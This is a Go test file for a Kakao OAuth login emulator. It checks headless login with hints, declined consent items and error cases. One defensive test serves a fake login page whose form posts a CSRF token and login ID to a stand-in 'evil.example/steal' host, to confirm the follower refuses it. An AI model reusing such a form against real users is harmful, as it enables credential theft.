package flow_test

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/kakaologin/kakaologin/flow"
	"github.com/kakaologin/kakaologin/flow/emulator/emulatortest"
)

// newPagesKakao is newKakao with the emulator showing Kakao's pages, as
// `kakaologin mock` does by default.
func newPagesKakao(t *testing.T) *kakao {
	t.Helper()
	return anyPortKakao(t, emulatortest.WithPages())
}

// headless is FollowAuthorize as an opener.
func headless(opts ...flow.HeadlessOption) flow.Opener {
	return func(ctx context.Context, u string) error { return flow.FollowAuthorize(ctx, nil, u, opts...) }
}

func TestHeadlessPlaysThePages(t *testing.T) {
	tests := []struct {
		name   string
		hint   string
		opts   []flow.HeadlessOption
		wantID string
		want   []string // in the profile
		absent []string
	}{
		{name: "default user", wantID: `"id":3958471203`, want: []string{`"email":"kakao.tester@example.com"`}},
		{name: "hinted by email", hint: "choonsik@example.com", wantID: `"id":1376016924429759243`},
		{name: "hinted by id", hint: "4120567891", wantID: `"id":4120567891`},
		{name: "declined email", opts: []flow.HeadlessOption{flow.Decline("account_email")}, wantID: `"id":3958471203`,
			want: []string{`"email_needs_agreement":true`, `"profile_image_needs_agreement":false`}, absent: []string{`"email":`}},
		{name: "user switch declines", hint: "no.email.consent@example.com", wantID: `"id":4029183746`,
			want: []string{`"email_needs_agreement":true`}, absent: []string{`"email":`}},
		{name: "declined item not asked", opts: []flow.HeadlessOption{flow.Decline("talk_message")}, wantID: `"id":3958471203`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			k := newPagesKakao(t)
			res, err := k.cfg.Login(testContext(t), flow.AuthorizeParams{LoginHint: tt.hint}, headless(tt.opts...))
			if err != nil {
				t.Fatal(err)
			}
			me := string(res.Profile)
			if !strings.HasPrefix(me, "{"+tt.wantID) {
				t.Errorf("profile %s, want %s", me, tt.wantID)
			}
			for _, w := range tt.want {
				if !strings.Contains(me, w) {
					t.Errorf("profile lacks %s: %s", w, me)
				}
			}
			for _, a := range tt.absent {
				if strings.Contains(me, a) {
					t.Errorf("profile has %s: %s", a, me)
				}
			}
		})
	}
}

// Kakao asks only for what the user has not consented to: an item of
// Decline that no consent page listed is reported, not silently dropped.
func TestDecliningReportsItemsNotAsked(t *testing.T) {
	k := newPagesKakao(t)
	d := flow.NewDeclining("account_email", "bogus_item")
	res, err := k.cfg.Login(testContext(t), flow.AuthorizeParams{}, headless(d.Option()))
	if err != nil {
		t.Fatal(err)
	}
	if got := d.NotAsked(); !slices.Equal(got, []string{"bogus_item"}) {
		t.Errorf("first login: NotAsked() = %q, want [bogus_item]", got)
	}
	if me := string(res.Profile); !strings.Contains(me, `"email_needs_agreement":true`) {
		t.Errorf("first login: email not declined: %s", me)
	}

	// Consented before: no consent page asks again, the email stays.
	k = newPagesKakao(t)
	if _, err := k.cfg.Login(testContext(t), flow.AuthorizeParams{}, headless()); err != nil {
		t.Fatal(err)
	}
	d = flow.NewDeclining("account_email")
	res, err = k.cfg.Login(testContext(t), flow.AuthorizeParams{}, headless(d.Option()))
	if err != nil {
		t.Fatal(err)
	}
	if got := d.NotAsked(); !slices.Equal(got, []string{"account_email"}) {
		t.Errorf("consented before: NotAsked() = %q, want [account_email]", got)
	}
	if me := string(res.Profile); !strings.Contains(me, `"email":"kakao.tester@example.com"`) {
		t.Errorf("consented before: profile %s, want the email", me)
	}

	// A server that approves at once shows no page: nothing was asked.
	k = newKakao(t, "", nil)
	d = flow.NewDeclining("account_email", "gender")
	if _, err := k.cfg.Login(testContext(t), flow.AuthorizeParams{}, headless(d.Option())); err != nil {
		t.Fatal(err)
	}
	if got := d.NotAsked(); !slices.Equal(got, []string{"account_email", "gender"}) {
		t.Errorf("no pages: NotAsked() = %q, want both", got)
	}
}

func TestHeadlessPagesErrors(t *testing.T) {
	k := newPagesKakao(t)
	_, err := k.cfg.Login(testContext(t), flow.AuthorizeParams{LoginHint: "cancel@example.com"}, headless())
	var cbErr *flow.CallbackError
	if !errors.As(err, &cbErr) || !cbErr.Denied() {
		t.Errorf("the user who cancels: err = %v, want access_denied", err)
	}

	k = newPagesKakao(t)
	_, err = k.cfg.Login(testContext(t), flow.AuthorizeParams{LoginHint: "nobody@example.com"}, headless())
	var a *flow.AuthError
	if !errors.As(err, &a) || a.Code != "KOE_MOCK_LOGIN_HINT" || !strings.Contains(a.Description, "No test user matches “nobody@example.com”") {
		t.Errorf("unknown hint: err = %v, want KOE_MOCK_LOGIN_HINT with the page's words", err)
	}

	k = newPagesKakao(t)
	_, err = k.cfg.Login(testContext(t), flow.AuthorizeParams{}, headless(flow.Decline("profile_nickname")))
	if !errors.Is(err, flow.ErrRequiredItem) || !strings.Contains(err.Error(), "profile_nickname") {
		t.Errorf("declining a required item: err = %v", err)
	}
}

// A page that looks like a login page but lacks the emulator's marker is a
// person's job, whatever else it carries.
func TestHeadlessNeedsTheEmulator(t *testing.T) {
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `<html><head><meta name="viewport" content="x"></head><body>
<form method="post" action="/login" data-kakaologin="account-login"><input name="login_id" value="kakao.tester@example.com"></form></body></html>`)
	}))
	defer page.Close()
	err := flow.FollowAuthorize(testContext(t), nil, page.URL+"/oauth/authorize?client_id=x")
	if !errors.Is(err, flow.ErrNeedsPerson) {
		t.Fatalf("err = %v, want ErrNeedsPerson", err)
	}
}

// A page whose form posts elsewhere is not followed.
func TestHeadlessStaysOnTheEmulator(t *testing.T) {
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `<!DOCTYPE html><html><head><meta name="kakaologin-emulator" content="account"></head><body>
<form method="post" action="https://evil.example/steal" data-kakaologin="account-login">
<input type="hidden" name="csrf_token" value="t"><input name="login_id" value="kakao.tester@example.com"></form></body></html>`)
	}))
	defer page.Close()
	err := flow.FollowAuthorize(testContext(t), nil, page.URL+"/oauth/authorize?client_id=x")
	if err == nil || !strings.Contains(err.Error(), "not to the emulator") {
		t.Fatalf("err = %v, want a refusal to post elsewhere", err)
	}
}
